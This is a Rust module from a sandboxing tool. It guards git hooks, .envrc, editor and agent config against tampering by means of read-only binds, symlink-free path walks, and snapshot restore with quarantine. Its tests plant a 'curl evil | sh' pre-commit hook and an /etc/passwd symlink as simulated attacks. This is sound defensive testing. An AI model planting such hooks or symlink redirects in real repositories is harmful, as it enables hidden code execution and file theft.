//! Protected paths: files inside the writable project (and the agents'
//! state) that make code run *outside* the sandbox later: git hooks and
//! config, `.envrc`, editor settings, MCP server lists, shell rc files.
//!
//! Two mechanisms, stacked:
//!   1. with namespaces, each existing protected path is bind-mounted
//!      read-only over itself (fd-based: `open_tree` + `move_mount` on a
//!      descriptor opened without following any symlink);
//!   2. in every mode, a snapshot taken before the run is verified after it:
//!      what changed is restored, what appeared is moved to quarantine, and
//!      the user is told. Without namespaces this is the only mechanism
//!      (Landlock cannot deny a path inside a tree it allows).
//!
//! Paths come from whoever wrote the repository: nothing here follows a
//! symlink (openat2 RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS, O_NOFOLLOW), so a
//! `.vscode -> ~/.aws` link can neither be bound in nor written through
//! (flatpak CVE-2024-42472, Claude Code CVE-2026-39861).

use std::ffi::{CString, OsStr, OsString};
use std::io::{Read, Write};
use std::os::fd::{AsFd, AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::path::{Component, Path, PathBuf};

use nix::errno::Errno;
use nix::fcntl::{openat, openat2, OFlag, OpenHow, ResolveFlag};
use nix::libc;
use nix::sys::stat::{fstatat, Mode, SFlag};
use nix::unistd::UnlinkatFlags;

/// One protected path: `rel` beneath the trusted directory `base` (the
/// project, or a git directory outside it that was verified).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Protected {
    pub base: PathBuf,
    pub rel: PathBuf,
}

impl Protected {
    pub fn path(&self) -> PathBuf {
        self.base.join(&self.rel)
    }
}

/// What `resolve` found.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Resolution {
    pub entries: Vec<Protected>,
    /// Git directories outside the project that git needs (worktrees,
    /// submodules), verified by their back-reference: bind them read-write.
    pub git_binds: Vec<PathBuf>,
    pub warnings: Vec<String>,
}

/// Is `name` an acceptable protected-path entry: relative to the project,
/// or `~/...` in the home, without `..`?
pub fn check_name(name: &str) -> Result<(), String> {
    let p = Path::new(name.strip_prefix("~/").unwrap_or(name));
    if name.is_empty() || name.contains('\0') || p.is_absolute() {
        return Err("must be relative to the project (`.envrc`, `.git/hooks`) or in the home (`~/.claude/settings.json`)".into());
    }
    if !p.components().all(|c| matches!(c, Component::Normal(_))) {
        return Err("must not contain `..` or `.`".into());
    }
    Ok(())
}

fn lstat_kind(path: &Path) -> Option<std::fs::FileType> {
    std::fs::symlink_metadata(path).ok().map(|m| m.file_type())
}

fn read_small(path: &Path) -> Option<String> {
    let mut f = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW)
        .open(path)
        .ok()?;
    let mut s = String::new();
    Read::by_ref(&mut f)
        .take(4096)
        .read_to_string(&mut s)
        .ok()?;
    Some(s)
}

use std::os::unix::fs::OpenOptionsExt;

/// The git directories of the project: (the dir holding hooks and config,
/// the per-worktree dir), following `.git` files only when the target
/// points back at this project (a repository cannot forge another
/// repository's back-reference).
fn git_dirs(project: &Path, r: &mut Resolution) -> Option<(PathBuf, PathBuf)> {
    let dot_git = project.join(".git");
    let kind = lstat_kind(&dot_git)?;
    if kind.is_symlink() {
        r.warnings.push(format!(
            "{} is a symlink: not followed (git will not work inside)",
            dot_git.display()
        ));
        return None;
    }
    if kind.is_dir() {
        return Some((dot_git.clone(), dot_git));
    }
    let text = read_small(&dot_git)?;
    let target = text.lines().find_map(|l| l.strip_prefix("gitdir:"))?.trim();
    let gitdir = std::fs::canonicalize(project.join(target)).ok()?;
    let inside = gitdir.starts_with(project);
    let canonical = |p: PathBuf| std::fs::canonicalize(p).ok();
    // Worktree: <gitdir>/gitdir names this worktree's .git file.
    let worktree_ok = read_small(&gitdir.join("gitdir"))
        .and_then(|s| canonical(gitdir.join(s.trim())))
        .is_some_and(|p| p == dot_git);
    // Submodule: <gitdir>/config has core.worktree pointing at this project.
    let submodule_ok = read_small(&gitdir.join("config"))
        .and_then(|s| {
            s.lines().find_map(|l| {
                l.trim()
                    .strip_prefix("worktree")
                    .map(|v| v.trim_start_matches([' ', '=']).trim().to_string())
            })
        })
        .and_then(|w| canonical(gitdir.join(w)))
        .is_some_and(|p| p == project);
    if !inside && !worktree_ok && !submodule_ok {
        r.warnings.push(format!(
            "{} points to {}, which does not point back at this project: not bound (git will not work inside)",
            dot_git.display(),
            gitdir.display()
        ));
        return None;
    }
    let common = read_small(&gitdir.join("commondir"))
        .and_then(|c| canonical(gitdir.join(c.trim())))
        .unwrap_or_else(|| gitdir.clone());
    for dir in [&gitdir, &common] {
        if !dir.starts_with(project) && !r.git_binds.contains(dir) {
            r.git_binds.push(dir.clone());
        }
    }
    Some((common, gitdir))
}

/// Turn the configured names into protected paths of this project (and of
/// the home, for `~/` entries).
pub fn resolve(project: &Path, home: &Path, names: &[String]) -> Resolution {
    let mut r = Resolution::default();
    let git = if names.iter().any(|n| n.starts_with(".git/")) {
        git_dirs(project, &mut r)
    } else {
        None
    };
    for name in names {
        if let Some(inner) = name.strip_prefix(".git/") {
            let Some((common, worktree)) = &git else {
                continue;
            };
            for base in [common, worktree] {
                let entry = match base.strip_prefix(project) {
                    Ok(rel) => Protected {
                        base: project.to_path_buf(),
                        rel: rel.join(inner),
                    },
                    Err(_) => Protected {
                        base: base.clone(),
                        rel: PathBuf::from(inner),
                    },
                };
                if !r.entries.contains(&entry) {
                    r.entries.push(entry);
                }
            }
        } else if let Some(rel) = name.strip_prefix("~/") {
            r.entries.push(Protected {
                base: home.to_path_buf(),
                rel: PathBuf::from(rel),
            });
        } else {
            r.entries.push(Protected {
                base: project.to_path_buf(),
                rel: PathBuf::from(name),
            });
        }
    }
    r
}

/// Create the folders `rels` beneath `home` (0700 each level made), never
/// following a symlink on the way: an agent's state folder that exists
/// neither as a folder nor at all is not made through a link somewhere
/// else. Returns what was made, and what could not be (with why).
pub fn create_folders(home: &Path, rels: &[PathBuf]) -> (Vec<PathBuf>, Vec<String>) {
    let mut made = Vec::new();
    let mut failed = Vec::new();
    let base = match open_dir(home) {
        Ok(fd) => fd,
        Err(e) => {
            failed.push(format!("{}: {e}", home.display()));
            return (made, failed);
        }
    };
    for rel in rels {
        let mut dir = match open_beneath(&base, Path::new(""), OFlag::O_PATH | OFlag::O_DIRECTORY) {
            Ok(d) => d,
            Err(e) => {
                failed.push(format!("{}: {e}", home.display()));
                continue;
            }
        };
        let mut created = false;
        let mut error = None;
        for part in rel.components() {
            let Component::Normal(name) = part else {
                error = Some("not a plain relative path".to_string());
                break;
            };
            let flags = OFlag::O_PATH | OFlag::O_DIRECTORY;
            let next = match open_beneath(&dir, Path::new(name), flags) {
                Err(Errno::ENOENT) => {
                    match nix::sys::stat::mkdirat(
                        dir.as_fd(),
                        name,
                        Mode::from_bits_truncate(0o700),
                    ) {
                        Ok(()) | Err(Errno::EEXIST) => created = true,
                        Err(e) => {
                            error = Some(format!("mkdir {}: {e}", name.to_string_lossy()));
                            break;
                        }
                    }
                    open_beneath(&dir, Path::new(name), flags)
                }
                other => other,
            };
            match next {
                Ok(d) => dir = d,
                Err(e) => {
                    let why = if matches!(e, Errno::ELOOP | Errno::EXDEV | Errno::ENOTDIR) {
                        format!("{} is a symlink or not a folder", name.to_string_lossy())
                    } else {
                        e.to_string()
                    };
                    error = Some(why);
                    break;
                }
            }
        }
        match error {
            Some(why) => failed.push(format!("{}: {why}", home.join(rel).display())),
            None if created => made.push(home.join(rel)),
            None => {}
        }
    }
    (made, failed)
}

// ---------------------------------------------------------------- fd walking

fn open_dir(path: &Path) -> Result<OwnedFd, Errno> {
    nix::fcntl::open(
        path,
        OFlag::O_PATH | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
        Mode::empty(),
    )
}

/// Open an absolute `path` without following a symlink anywhere on the way.
pub(crate) fn open_no_symlinks(path: &Path, flags: OFlag) -> Result<OwnedFd, Errno> {
    let root = open_dir(Path::new("/"))?;
    let rel = path.strip_prefix("/").map_err(|_| Errno::EINVAL)?;
    open_beneath(&root, rel, flags)
}

/// Open `rel` (a directory) beneath `base` without following any symlink.
fn open_beneath(base: &OwnedFd, rel: &Path, flags: OFlag) -> Result<OwnedFd, Errno> {
    if rel.as_os_str().is_empty() {
        return openat(base.as_fd(), ".", flags | OFlag::O_CLOEXEC, Mode::empty());
    }
    let how = OpenHow::new()
        .flags(flags | OFlag::O_CLOEXEC | OFlag::O_NOFOLLOW)
        .resolve(
            ResolveFlag::RESOLVE_BENEATH
                | ResolveFlag::RESOLVE_NO_SYMLINKS
                | ResolveFlag::RESOLVE_NO_MAGICLINKS,
        );
    match openat2(base.as_fd(), rel, how) {
        Err(Errno::ENOSYS) => {
            // Before Linux 5.6: one component at a time, never following.
            let mut fd = openat(
                base.as_fd(),
                ".",
                OFlag::O_PATH | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
                Mode::empty(),
            )?;
            let comps: Vec<_> = rel.components().collect();
            for (i, c) in comps.iter().enumerate() {
                let Component::Normal(name) = c else {
                    return Err(Errno::EXDEV);
                };
                let last = i + 1 == comps.len();
                let f = if last {
                    flags
                } else {
                    OFlag::O_PATH | OFlag::O_DIRECTORY
                };
                fd = openat(
                    fd.as_fd(),
                    *name,
                    f | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
                    Mode::empty(),
                )?;
            }
            Ok(fd)
        }
        other => other,
    }
}

fn split(rel: &Path) -> (PathBuf, OsString) {
    let parent = rel.parent().map(Path::to_path_buf).unwrap_or_default();
    let name = rel.file_name().map(OsStr::to_os_string).unwrap_or_default();
    (parent, name)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum NodeKind {
    Dir,
    File,
    Link,
    Other,
}

fn kind_at(dir: &OwnedFd, name: &OsStr) -> Result<(NodeKind, u32), Errno> {
    let st = fstatat(dir.as_fd(), name, nix::fcntl::AtFlags::AT_SYMLINK_NOFOLLOW)?;
    let fmt = SFlag::from_bits_truncate(st.st_mode & libc::S_IFMT);
    let kind = match fmt {
        SFlag::S_IFDIR => NodeKind::Dir,
        SFlag::S_IFREG => NodeKind::File,
        SFlag::S_IFLNK => NodeKind::Link,
        _ => NodeKind::Other,
    };
    Ok((kind, st.st_mode & 0o7777))
}

// ---------------------------------------------------------------- snapshot

/// A node of a protected tree, path relative to the protected entry.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Node {
    Dir {
        rel: PathBuf,
        mode: u32,
    },
    File {
        rel: PathBuf,
        mode: u32,
        data: Vec<u8>,
    },
    Link {
        rel: PathBuf,
        target: OsString,
    },
    Other {
        rel: PathBuf,
    },
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum State {
    Absent,
    Tree(Vec<Node>),
    /// Could not be captured: too large (still bindable read-only), or a
    /// parent is not a plain directory (the bind's walk refuses it too).
    Unknown {
        why: String,
        bindable: bool,
    },
}

/// What the snapshot knows of one protected path (for `bwai explain`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Capture {
    Absent,
    /// Verified and restored after the run.
    Captured,
    /// Not verified after the run; `bindable`: a read-only mount (with
    /// namespaces) still protects it.
    Uncaptured {
        why: String,
        bindable: bool,
    },
}

/// At most this much content is kept for restoring.
const SNAPSHOT_LIMIT: usize = 16 << 20;
const SNAPSHOT_MAX_NODES: usize = 20_000;

struct Budget {
    bytes: usize,
    nodes: usize,
}

fn read_tree(
    dir: &OwnedFd,
    name: &OsStr,
    rel: &Path,
    out: &mut Vec<Node>,
    budget: &mut Budget,
) -> Result<(), String> {
    budget.nodes += 1;
    if budget.nodes > SNAPSHOT_MAX_NODES {
        return Err("too many files to keep a copy".into());
    }
    let (kind, mode) = kind_at(dir, name).map_err(|e| e.to_string())?;
    match kind {
        NodeKind::Dir => {
            out.push(Node::Dir {
                rel: rel.to_path_buf(),
                mode,
            });
            let fd = openat(
                dir.as_fd(),
                name,
                OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
                Mode::empty(),
            )
            .map_err(|e| e.to_string())?;
            let mut names: Vec<OsString> =
                nix::dir::Dir::from_fd(fd.try_clone().map_err(|e| e.to_string())?)
                    .map_err(|e| e.to_string())?
                    .iter()
                    .filter_map(|e| e.ok())
                    .map(|e| OsStr::from_bytes(e.file_name().to_bytes()).to_os_string())
                    .filter(|n| n != "." && n != "..")
                    .collect();
            names.sort();
            for n in names {
                read_tree(&fd, &n, &rel.join(&n), out, budget)?;
            }
        }
        NodeKind::File => {
            let fd = openat(
                dir.as_fd(),
                name,
                OFlag::O_RDONLY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
                Mode::empty(),
            )
            .map_err(|e| e.to_string())?;
            let mut data = Vec::new();
            std::fs::File::from(fd)
                .take((SNAPSHOT_LIMIT - budget.bytes.min(SNAPSHOT_LIMIT)) as u64 + 1)
                .read_to_end(&mut data)
                .map_err(|e| e.to_string())?;
            budget.bytes += data.len();
            if budget.bytes > SNAPSHOT_LIMIT {
                return Err("too large to keep a copy".into());
            }
            out.push(Node::File {
                rel: rel.to_path_buf(),
                mode,
                data,
            });
        }
        NodeKind::Link => {
            let target = nix::fcntl::readlinkat(dir.as_fd(), name).map_err(|e| e.to_string())?;
            out.push(Node::Link {
                rel: rel.to_path_buf(),
                target,
            });
        }
        NodeKind::Other => out.push(Node::Other {
            rel: rel.to_path_buf(),
        }),
    }
    Ok(())
}

fn capture(base: &OwnedFd, rel: &Path, budget: &mut Budget) -> State {
    let (parent, name) = split(rel);
    let dir = match open_beneath(base, &parent, OFlag::O_PATH | OFlag::O_DIRECTORY) {
        Ok(d) => d,
        Err(Errno::ENOENT) => return State::Absent,
        Err(e) => {
            return State::Unknown {
                why: format!("a parent is not a plain directory ({e})"),
                bindable: false,
            }
        }
    };
    match kind_at(&dir, &name) {
        Err(Errno::ENOENT) => State::Absent,
        Err(e) => State::Unknown {
            why: e.to_string(),
            bindable: true,
        },
        Ok(_) => {
            let mut nodes = Vec::new();
            match read_tree(&dir, &name, Path::new(""), &mut nodes, budget) {
                Ok(()) => State::Tree(nodes),
                Err(why) => State::Unknown {
                    why,
                    bindable: true,
                },
            }
        }
    }
}

struct Root {
    entry: Protected,
    base: OwnedFd,
    before: State,
}

/// The protected paths as they were before the run.
pub struct Snapshot {
    roots: Vec<Root>,
    project: PathBuf,
}

impl Snapshot {
    pub fn take(entries: &[Protected], project: &Path) -> Snapshot {
        let mut budget = Budget { bytes: 0, nodes: 0 };
        let mut roots = Vec::new();
        for entry in entries {
            let Ok(base) = open_dir(&entry.base) else {
                continue;
            };
            let before = capture(&base, &entry.rel, &mut budget);
            roots.push(Root {
                entry: entry.clone(),
                base,
                before,
            });
        }
        Snapshot {
            roots,
            project: project.to_path_buf(),
        }
    }

    /// The entries that exist now, to bind read-only: those captured, and
    /// those too large to capture (the bind does not need a copy; one whose
    /// parent is a symlink is refused by the bind's own no-symlink walk).
    pub fn existing(&self) -> Vec<Protected> {
        self.roots
            .iter()
            .filter(|r| !matches!(r.before, State::Absent))
            .map(|r| r.entry.clone())
            .collect()
    }

    /// What was found at `entry` (None: its base could not be opened).
    pub fn state(&self, entry: &Protected) -> Option<Capture> {
        let root = self.roots.iter().find(|r| &r.entry == entry)?;
        Some(match &root.before {
            State::Absent => Capture::Absent,
            State::Tree(_) => Capture::Captured,
            State::Unknown { why, bindable } => Capture::Uncaptured {
                why: why.clone(),
                bindable: *bindable,
            },
        })
    }

    pub fn uncaptured(&self) -> Vec<String> {
        self.roots
            .iter()
            .filter_map(|r| match &r.before {
                State::Unknown { why, .. } => Some(format!(
                    "{}: {why}; it is not verified after the run (only a read-only mount, \
                     with namespaces, protects it)",
                    r.entry.path().display()
                )),
                _ => None,
            })
            .collect()
    }

    /// After the run (the sandbox is gone): put back what changed, move
    /// aside what appeared. One line per event, for the user and the report.
    pub fn verify_and_restore(&self) -> Vec<String> {
        let mut events = Vec::new();
        let mut budget = Budget { bytes: 0, nodes: 0 };
        for root in &self.roots {
            let after = capture(&root.base, &root.entry.rel, &mut budget);
            let shown = root.entry.path();
            match (&root.before, &after) {
                (a, b) if a == b => {}
                (State::Unknown { .. }, _) => {}
                (State::Absent, _) => match self.quarantine(root) {
                    Ok(to) => events.push(format!(
                        "{} was created in the sandbox: moved to {}",
                        shown.display(),
                        to.display()
                    )),
                    Err(e) => events.push(format!(
                        "{} was created in the sandbox and could not be removed: {e}",
                        shown.display()
                    )),
                },
                (State::Tree(nodes), _) => match restore(&root.base, &root.entry.rel, nodes) {
                    Ok(()) => events.push(format!(
                        "{} was changed in the sandbox: restored",
                        shown.display()
                    )),
                    Err(e) => events.push(format!(
                        "{} was changed in the sandbox and could not be restored: {e}",
                        shown.display()
                    )),
                },
            }
        }
        events
    }

    fn quarantine(&self, root: &Root) -> Result<PathBuf, String> {
        let (parent, name) = split(&root.entry.rel);
        let dir = ensure_dirs(&root.base, &parent)?;
        let (kind, _) = kind_at(&dir, &name).map_err(|e| e.to_string())?;
        if kind != NodeKind::Dir && kind != NodeKind::File {
            nix::unistd::unlinkat(dir.as_fd(), name.as_os_str(), UnlinkatFlags::NoRemoveDir)
                .map_err(|e| e.to_string())?;
            return Ok(PathBuf::from("(removed)"));
        }
        let stamp = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_secs())
            .unwrap_or(0);
        let project = open_dir(&self.project).map_err(|e| e.to_string())?;
        let qdir = ensure_dirs(&project, Path::new(".bwai-quarantine"))?;
        // A flat, dot-free name: nothing in quarantine is picked up by a tool.
        let flat = format!(
            "{stamp}-{}",
            root.entry
                .rel
                .to_string_lossy()
                .replace('/', "%")
                .trim_start_matches('.')
        );
        nix::fcntl::renameat(dir.as_fd(), name.as_os_str(), qdir.as_fd(), flat.as_str())
            .or_else(|_| remove_at(&dir, &name))
            .map_err(|e| e.to_string())?;
        Ok(self.project.join(".bwai-quarantine").join(flat))
    }
}

/// Open (creating as needed) the directory `rel` beneath `base`; whatever
/// stands in the way (a symlink, a file) is removed, never followed.
fn ensure_dirs(base: &OwnedFd, rel: &Path) -> Result<OwnedFd, String> {
    let mut dir = openat(
        base.as_fd(),
        ".",
        OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
        Mode::empty(),
    )
    .map_err(|e| e.to_string())?;
    for c in rel.components() {
        let Component::Normal(name) = c else {
            return Err("bad path".into());
        };
        match kind_at(&dir, name) {
            Ok((NodeKind::Dir, _)) => {}
            Ok(_) => {
                remove_at(&dir, name).map_err(|e| e.to_string())?;
                nix::sys::stat::mkdirat(dir.as_fd(), name, Mode::from_bits_truncate(0o755))
                    .map_err(|e| e.to_string())?;
            }
            Err(_) => {
                nix::sys::stat::mkdirat(dir.as_fd(), name, Mode::from_bits_truncate(0o755))
                    .map_err(|e| e.to_string())?;
            }
        }
        dir = openat(
            dir.as_fd(),
            name,
            OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
            Mode::empty(),
        )
        .map_err(|e| e.to_string())?;
    }
    Ok(dir)
}

/// Remove `name` in `dir`, recursively, never following a symlink.
fn remove_at(dir: &OwnedFd, name: &OsStr) -> Result<(), Errno> {
    let (kind, _) = kind_at(dir, name)?;
    if kind == NodeKind::Dir {
        let fd = openat(
            dir.as_fd(),
            name,
            OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
            Mode::empty(),
        )?;
        let names: Vec<OsString> =
            nix::dir::Dir::from_fd(fd.try_clone().map_err(|_| Errno::EBADF)?)?
                .iter()
                .filter_map(|e| e.ok())
                .map(|e| OsStr::from_bytes(e.file_name().to_bytes()).to_os_string())
                .filter(|n| n != "." && n != "..")
                .collect();
        for n in names {
            remove_at(&fd, &n)?;
        }
        nix::unistd::unlinkat(dir.as_fd(), name, UnlinkatFlags::RemoveDir)
    } else {
        nix::unistd::unlinkat(dir.as_fd(), name, UnlinkatFlags::NoRemoveDir)
    }
}

fn restore(base: &OwnedFd, rel: &Path, nodes: &[Node]) -> Result<(), String> {
    let (parent, name) = split(rel);
    let dir = ensure_dirs(base, &parent)?;
    match remove_at(&dir, &name) {
        Ok(()) | Err(Errno::ENOENT) => {}
        Err(e) => return Err(format!("removing the changed copy: {e}")),
    }
    for node in nodes {
        let node_rel = match node {
            Node::Dir { rel, .. }
            | Node::File { rel, .. }
            | Node::Link { rel, .. }
            | Node::Other { rel } => rel,
        };
        let full = Path::new(&name).join(node_rel);
        let full = if node_rel.as_os_str().is_empty() {
            PathBuf::from(&name)
        } else {
            full
        };
        let (p, n) = split(&full);
        let at = ensure_dirs(&dir, &p)?;
        let raw = at.as_fd();
        match node {
            Node::Dir { mode, .. } => {
                nix::sys::stat::mkdirat(raw, n.as_os_str(), Mode::from_bits_truncate(*mode))
                    .map_err(|e| e.to_string())?
            }
            Node::File { mode, data, .. } => {
                let fd = openat(
                    at.as_fd(),
                    n.as_os_str(),
                    OFlag::O_WRONLY
                        | OFlag::O_CREAT
                        | OFlag::O_EXCL
                        | OFlag::O_NOFOLLOW
                        | OFlag::O_CLOEXEC,
                    Mode::from_bits_truncate(*mode),
                )
                .map_err(|e| e.to_string())?;
                let mut f = std::fs::File::from(fd);
                f.write_all(data).map_err(|e| e.to_string())?;
                // The umask may have trimmed the mode.
                nix::sys::stat::fchmod(f.as_fd(), Mode::from_bits_truncate(*mode))
                    .map_err(|e| e.to_string())?;
            }
            Node::Link { target, .. } => {
                nix::unistd::symlinkat(target.as_os_str(), raw, n.as_os_str())
                    .map_err(|e| e.to_string())?
            }
            Node::Other { .. } => {}
        }
    }
    Ok(())
}

// ---------------------------------------------------------------- read-only binds

const OPEN_TREE_CLONE: libc::c_uint = 1;
const AT_EMPTY_PATH: libc::c_uint = 0x1000;
const AT_RECURSIVE: libc::c_uint = 0x8000;
const MOVE_MOUNT_F_EMPTY_PATH: libc::c_uint = 0x4;
const MOVE_MOUNT_T_EMPTY_PATH: libc::c_uint = 0x40;
const MOUNT_ATTR_RDONLY: u64 = 0x1;
const MOUNT_ATTR_NOSUID: u64 = 0x2;
const MOUNT_ATTR_NODEV: u64 = 0x4;

#[repr(C)]
struct MountAttr {
    attr_set: u64,
    attr_clr: u64,
    propagation: u64,
    userns_fd: u64,
}

fn empty() -> CString {
    CString::new("").expect("no NUL")
}

/// Bind `fd` read-only over itself, entirely through descriptors.
fn bind_fd_read_only(fd: &OwnedFd) -> Result<(), Errno> {
    let e = empty();
    // SAFETY: fd is valid, the path is an empty C string; returns a new fd.
    let tree = unsafe {
        libc::syscall(
            libc::SYS_open_tree,
            fd.as_raw_fd(),
            e.as_ptr(),
            OPEN_TREE_CLONE | AT_RECURSIVE | AT_EMPTY_PATH | libc::O_CLOEXEC as libc::c_uint,
        )
    };
    if tree < 0 {
        return Err(Errno::last());
    }
    // SAFETY: open_tree returned a new descriptor we now own.
    let tree = unsafe { OwnedFd::from_raw_fd(tree as i32) };
    let attr = MountAttr {
        attr_set: MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID | MOUNT_ATTR_NODEV,
        attr_clr: 0,
        propagation: 0,
        userns_fd: 0,
    };
    // SAFETY: valid fd, empty path, attr valid and sized.
    let ret = unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            tree.as_raw_fd(),
            e.as_ptr(),
            AT_EMPTY_PATH | AT_RECURSIVE,
            &attr as *const MountAttr,
            std::mem::size_of::<MountAttr>(),
        )
    };
    if ret < 0 {
        return Err(Errno::last());
    }
    // SAFETY: both fds valid, empty paths.
    let ret = unsafe {
        libc::syscall(
            libc::SYS_move_mount,
            tree.as_raw_fd(),
            e.as_ptr(),
            fd.as_raw_fd(),
            e.as_ptr(),
            MOVE_MOUNT_F_EMPTY_PATH | MOVE_MOUNT_T_EMPTY_PATH,
        )
    };
    if ret < 0 {
        return Err(Errno::last());
    }
    Ok(())
}

/// In init, inside the namespaces: make each existing protected path a
/// read-only mount of itself. Returns warnings for what could not be.
pub fn bind_read_only(entries: &[Protected]) -> Vec<String> {
    let mut warnings = Vec::new();
    for entry in entries {
        let result = open_dir(&entry.base).and_then(|base| {
            let (parent, name) = split(&entry.rel);
            let dir = open_beneath(&base, &parent, OFlag::O_PATH | OFlag::O_DIRECTORY)?;
            let (kind, _) = kind_at(&dir, &name)?;
            if kind == NodeKind::Link || kind == NodeKind::Other {
                return Err(Errno::ELOOP);
            }
            let fd = openat(
                dir.as_fd(),
                name.as_os_str(),
                OFlag::O_PATH | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
                Mode::empty(),
            )?;
            bind_fd_read_only(&fd)
        });
        match result {
            Ok(()) | Err(Errno::ENOENT) => {}
            Err(e) => warnings.push(format!(
                "protected path {} could not be made read-only ({e}); it is verified after the run",
                entry.path().display()
            )),
        }
    }
    warnings
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tmp(tag: &str) -> PathBuf {
        let p = std::env::temp_dir().join(format!("bwai-protect-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&p);
        std::fs::create_dir_all(&p).unwrap();
        p
    }

    #[test]
    fn names_must_be_relative_and_plain() {
        assert!(check_name(".git/hooks").is_ok());
        for bad in ["", "/etc", "../x", "a/../b", "./x"] {
            assert!(check_name(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn changes_are_restored_and_creations_quarantined() {
        let p = tmp("restore");
        std::fs::create_dir_all(p.join(".git/hooks")).unwrap();
        std::fs::write(p.join(".git/hooks/pre-commit"), "#!/bin/sh\ntrue\n").unwrap();
        std::fs::write(p.join(".git/config"), "[core]\n").unwrap();
        let r = resolve(
            &p,
            Path::new("/nonexistent"),
            &[".git/hooks".into(), ".git/config".into(), ".envrc".into()],
        );
        assert_eq!(r.entries.len(), 3);
        let snap = Snapshot::take(&r.entries, &p);
        std::fs::write(p.join(".git/hooks/pre-commit"), "curl evil | sh\n").unwrap();
        std::fs::write(p.join(".git/hooks/post-checkout"), "evil\n").unwrap();
        std::fs::remove_file(p.join(".git/config")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", p.join(".git/config")).unwrap();
        std::fs::write(p.join(".envrc"), "evil\n").unwrap();
        let events = snap.verify_and_restore();
        assert_eq!(events.len(), 3, "{events:?}");
        assert_eq!(
            std::fs::read_to_string(p.join(".git/hooks/pre-commit")).unwrap(),
            "#!/bin/sh\ntrue\n"
        );
        assert!(!p.join(".git/hooks/post-checkout").exists());
        assert!(!std::fs::symlink_metadata(p.join(".git/config"))
            .unwrap()
            .file_type()
            .is_symlink());
        assert_eq!(
            std::fs::read_to_string(p.join(".git/config")).unwrap(),
            "[core]\n"
        );
        assert!(!p.join(".envrc").exists());
        assert_eq!(
            std::fs::read_dir(p.join(".bwai-quarantine"))
                .unwrap()
                .count(),
            1
        );
        std::fs::remove_dir_all(&p).unwrap();
    }

    #[test]
    fn a_parent_replaced_by_a_symlink_is_not_followed() {
        let p = tmp("parent");
        let outside = tmp("parent-outside");
        std::fs::create_dir_all(p.join(".git/hooks")).unwrap();
        std::fs::write(p.join(".git/hooks/h"), "ok").unwrap();
        let r = resolve(&p, Path::new("/nonexistent"), &[".git/hooks".into()]);
        let snap = Snapshot::take(&r.entries, &p);
        // The sandbox swaps .git for a link to a folder outside.
        std::fs::rename(p.join(".git"), p.join("moved")).unwrap();
        std::os::unix::fs::symlink(&outside, p.join(".git")).unwrap();
        let events = snap.verify_and_restore();
        assert_eq!(events.len(), 1, "{events:?}");
        assert!(
            std::fs::read_dir(&outside).unwrap().next().is_none(),
            "wrote through the link"
        );
        assert_eq!(
            std::fs::read_to_string(p.join(".git/hooks/h")).unwrap(),
            "ok"
        );
        std::fs::remove_dir_all(&p).unwrap();
        std::fs::remove_dir_all(&outside).unwrap();
    }

    #[test]
    fn a_gitdir_file_without_back_reference_is_not_followed() {
        let p = tmp("gitfile");
        let other = tmp("gitfile-other");
        std::fs::create_dir_all(other.join("hooks")).unwrap();
        std::fs::write(p.join(".git"), format!("gitdir: {}\n", other.display())).unwrap();
        let r = resolve(&p, Path::new("/nonexistent"), &[".git/hooks".into()]);
        assert!(r.git_binds.is_empty() && r.entries.is_empty(), "{r:?}");
        assert!(r.warnings[0].contains("does not point back"));
        // A real worktree: the git dir names this .git file.
        std::fs::write(
            other.join("gitdir"),
            format!("{}\n", p.join(".git").display()),
        )
        .unwrap();
        let r = resolve(&p, Path::new("/nonexistent"), &[".git/hooks".into()]);
        assert_eq!(r.git_binds, vec![std::fs::canonicalize(&other).unwrap()]);
        assert_eq!(r.entries[0].rel, PathBuf::from("hooks"));
        std::fs::remove_dir_all(&p).unwrap();
        std::fs::remove_dir_all(&other).unwrap();
    }
}
